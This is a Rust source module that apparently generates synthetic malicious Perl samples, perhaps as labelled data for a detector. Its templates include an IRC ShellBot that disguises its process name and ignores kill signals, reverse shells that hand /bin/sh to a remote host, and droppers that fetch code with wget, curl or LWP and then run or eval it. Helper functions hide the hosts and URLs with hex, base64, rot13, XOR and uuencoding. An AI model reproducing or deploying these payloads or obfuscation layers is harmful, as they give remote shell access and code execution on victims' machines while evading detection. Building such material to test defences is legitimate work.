//! Perl: bots of IRC, loaders and reverse shells.

use super::super::{Dice, Truth, base64, codes, each, hex, keyed, put, reversed, rot13, xored};
use super::{listed, only, table};

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = only(dice);
    match dice.below(10) {
        0 => format!("pack('H*', '{}')", hex(text.as_bytes())),
        1 => {
            before.push_str("use MIME::Base64;\n");
            format!("decode_base64('{}')", base64(text.as_bytes()))
        }
        2 => format!("scalar reverse('{}')", reversed(text)),
        3 => format!("join('', map {{ chr }} ({}))", codes(text.bytes(), ",")),
        4 => {
            before.push_str(&format!(
                "my ${name} = '{}';\n${name} =~ tr/A-Za-z/N-ZA-Mn-za-m/;\n",
                rot13(text)
            ));
            format!("${name}")
        }
        5 => each(text, ".", |byte| format!("chr({byte})")),
        6 => {
            let mark = dice.pick(&["QQ", "ZX", "JJ", "~"]);
            let littered = dice.littered(text, mark);
            before.push_str(&format!("(my ${name} = '{littered}') =~ s/{mark}//g;\n"));
            format!("${name}")
        }
        7 => {
            let key = dice.key();
            format!("join('', map {{ chr($_ ^ {key}) }} ({}))", codes(xored(text, key), ", "))
        }
        8 => {
            let (letters, places) = table(dice, text);
            before.push_str(&format!("my @{name} = split(//, '{letters}');\n"));
            format!("join('', @{name}[{}])", listed(places, ","))
        }
        _ => {
            let key = dice.name();
            before.push_str(&format!(
                "sub {name} {{\n    my ($d, $k) = @_;\n    my $o = '';\n    for my $i (0 .. length($d) - 1) {{\n        $o .= chr(ord(substr($d, $i, 1)) ^ ord(substr($k, $i % length($k), 1)));\n    }}\n    return $o;\n}}\n"
            ));
            format!("{name}(pack('H*', '{}'), '{key}')", hex(&keyed(text, &key)))
        }
    }
}

fn layered(dice: &mut Dice, script: &str) -> String {
    match dice.below(10) {
        0 => format!("eval(pack('H*', '{}'));\n", hex(script.as_bytes())),
        1 => format!("use MIME::Base64;\neval decode_base64('{}');\n", base64(script.as_bytes())),
        2 => format!("eval unpack u=>q{{{}}};\n", uuencoded(script)),
        _ => script.to_owned(),
    }
}

/// Uuencoded, with accents for spaces, as `pack` writes it; to stand in braces, which the encoding
/// has none of.
fn uuencoded(text: &str) -> String {
    let letter = |value: u8| if value == 0 { '`' } else { char::from(value + 32) };
    let mut out = String::new();
    for line in text.as_bytes().chunks(45) {
        out.push(letter(line.len() as u8));
        for group in line.chunks(3) {
            let at = |index: usize| group.get(index).copied().unwrap_or_default();
            let (one, two, three) = (at(0), at(1), at(2));
            out.push(letter(one >> 2));
            out.push(letter((one & 3) << 4 | two >> 4));
            out.push(letter((two & 15) << 2 | three >> 6));
            out.push(letter(three & 63));
        }
        out.push('\n');
    }
    out.replace('\\', "\\\\")
}

const BOT: &str = r##"#!/usr/bin/perl
######################################
##   ShellBot                        #
######################################
use IO::Socket;
use IO::Select;
my $processo = '@P@';
@B@my $servidor = @W@;
my $porta = '@PORT@';
my @canais = ("#@C@");
my @adms = ("@A@");
my $nick = "[" . int(rand(9999)) . "]x";
my $VERSAO = '0.5';
$SIG{'INT'}  = 'IGNORE';
$SIG{'HUP'}  = 'IGNORE';
$SIG{'TERM'} = 'IGNORE';
$0 = "$processo" . "\0" x 16;
our %irc_servers;
our $sel_cliente = IO::Select->new();

sub sendraw {
    my ($socket, $text) = @_;
    print $socket "$text\n";
}

sub conectar {
    my ($meunick, $server, $port) = @_;
    my $sock = IO::Socket::INET->new(Proto => "tcp", PeerAddr => "$server", PeerPort => $port) or return(1);
    if (defined($sock)) {
        $sel_cliente->add($sock);
        $irc_servers{$sock}{'nick'} = $meunick;
        sendraw($sock, "NICK $meunick");
        sendraw($sock, "USER $meunick 0 * :$VERSAO");
        sendraw($sock, "JOIN $_") for @canais;
        while (my $line = <$sock>) {
            $line =~ s/\r?\n$//;
            if ($line =~ /^PING \:(.*)/) { sendraw($sock, "PONG :$1"); }
        }
    }
}

conectar("$nick", "$servidor", "$porta");
"##;

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let file = format!("/tmp/{}", dice.name());
    let script = match dice.below(10) {
        0 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            let process =
                dice.pick(&["/usr/sbin/httpd", "[kworker/0:1]", "/usr/sbin/sshd", "rsync"]);
            let channel = dice.name();
            let admin = dice.name();
            let port = port.to_string();
            put(
                BOT,
                &[
                    ("P", process),
                    ("B", &before),
                    ("W", &word),
                    ("PORT", &port),
                    ("C", &channel),
                    ("A", &admin),
                ],
            )
        }
        1 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            format!(
                "use Socket;\n{before}$i={word};$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};\n"
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            if dice.chance(50) {
                format!(
                    "use IO;$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"{host}:{port}\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\n"
                )
            } else {
                let word = hide(dice, &format!("{host}:{port}"), &mut before);
                format!(
                    "use IO::Socket::INET;\n{before}my $c = IO::Socket::INET->new({word}) or exit;\nSTDIN->fdopen($c, 'r');\nSTDOUT->fdopen($c, 'w');\nsystem($_) while (<STDIN>);\n"
                )
            }
        }
        3 => {
            let url = truth.url(dice, &[".pl", "", ".txt"]);
            let word = hide(dice, &url, &mut before);
            if dice.chance(50) {
                format!(
                    "#!/usr/bin/perl -w\nuse LWP::Simple;\n{before}my $rc = getstore({word}, '{file}');\nif (is_success($rc)) {{ chmod 0755, '{file}'; system('{file} &'); }}\n"
                )
            } else {
                format!("use LWP::Simple qw(get);\n{before}eval get({word});\n")
            }
        }
        4 => {
            let url = truth.url(dice, &[".sh", ""]);
            let word = hide(dice, &url, &mut before);
            let name = only(dice);
            format!(
                "#!/usr/bin/perl\n{before}my ${name} = {word};\nchdir('/tmp');\nsystem(\"wget -q ${name} -O {file}; chmod +x {file}\");\nsystem(\"curl -s ${name} -o {file}\") unless -s '{file}';\nexec('{file}');\n"
            )
        }
        5 => {
            let url = truth.url(dice, &["", ".bin"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "use strict;\nuse HTTP::Tiny;\n{before}my $http = HTTP::Tiny->new(agent => 'Mozilla/5.0', verify_SSL => 0);\nmy $res = $http->get({word});\nif ($res->{{success}}) {{\n    open(my $out, '>', '{file}');\n    print $out $res->{{content}};\n    close($out);\n    system('perl', '{file}');\n}}\n"
            )
        }
        6 => {
            let url = truth.url(dice, &["", ".php"]);
            let word = hide(dice, &url, &mut before);
            format!(
                "use LWP::UserAgent;\nuse HTTP::Request;\n{before}my $ua = LWP::UserAgent->new;\n$ua->timeout(20);\n$ua->agent('Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)');\nmy $req = HTTP::Request->new(GET => {word});\nmy $res = $ua->request($req);\neval $res->content if $res->is_success;\n"
            )
        }
        7 => {
            let url = truth.url(dice, &["", ".pl"]);
            let word = hide(dice, &url, &mut before);
            let name = only(dice);
            format!(
                "{before}my ${name} = {word};\nmy $code = `curl -fsSL ${name} 2>/dev/null`;\neval($code);\n"
            )
        }
        8 => {
            let (host, port) = truth.endpoint(dice);
            let word = hide(dice, &host, &mut before);
            format!(
                "#!/usr/bin/perl\nuse strict;\nuse Socket;\nuse FileHandle;\n# Connect-back, (c) data cha0s\n{before}my $host = {word};\nmy $port = {port};\nmy $proto = getprotobyname('tcp') || die(\"x\");\nprint \"[*] Connecting to $host:$port\\n\";\nsocket(SERVER, PF_INET, SOCK_STREAM, $proto) || die(\"Socket Error\\n\");\nmy $target = inet_aton($host);\nif (!connect(SERVER, pack('SnA4x8', 2, $port, $target))) {{ die(\"Unable to Connect\\n\"); }}\nprint \"[*] Spawning Shell\\n\";\nif (!fork()) {{\n    open(STDIN, \">&SERVER\");\n    open(STDOUT, \">&SERVER\");\n    open(STDERR, \">&SERVER\");\n    exec {{'/bin/sh'}} '-bash' . \"\\0\" x 4;\n    exit(0);\n}}\n"
            )
        }
        _ => {
            let urls: Vec<String> =
                (0..2 + dice.below(3)).map(|_| truth.url(dice, &["", ".elf"])).collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, &mut before)).collect();
            format!(
                "#!/usr/bin/perl\n{before}my @l = ({});\nforeach my $u (@l) {{\n    my ($f) = $u =~ m{{([^/]+)$}};\n    system(\"wget -q -O /tmp/$f $u || curl -s -o /tmp/$f $u\");\n    chmod(0777, \"/tmp/$f\");\n    system(\"/tmp/$f &\");\n}}\n",
                words.join(",\n    ")
            )
        }
    };
    layered(dice, &script)
}
